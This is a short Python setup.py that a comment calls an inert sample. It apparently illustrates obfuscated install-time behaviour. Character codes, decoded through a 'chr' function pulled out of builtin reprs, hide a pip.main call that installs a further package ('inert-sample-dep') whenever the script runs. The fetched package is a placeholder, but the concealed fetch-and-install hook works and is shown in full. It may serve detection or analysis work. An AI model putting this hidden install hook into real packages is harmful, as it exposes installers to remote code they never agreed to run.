# INERT SAMPLE: never run. Names spelled from the reprs of builtins, state in CJK names.
import sys
from distutils.core import setup

甲乙丙 = 3
丁戊己 = 5
庚辛壬 = 甲乙丙 * 丁戊己
if 庚辛壬 == 15:
    import pip
    pip.main([''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0]), [105, 110, 115, 116, 97, 108, 108])), ''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0]), [105, 110, 101, 114, 116, 45, 115, 97, 109, 112, 108, 101, 45, 100, 101, 112]))])

setup(name="inert-sample", version="1.0")
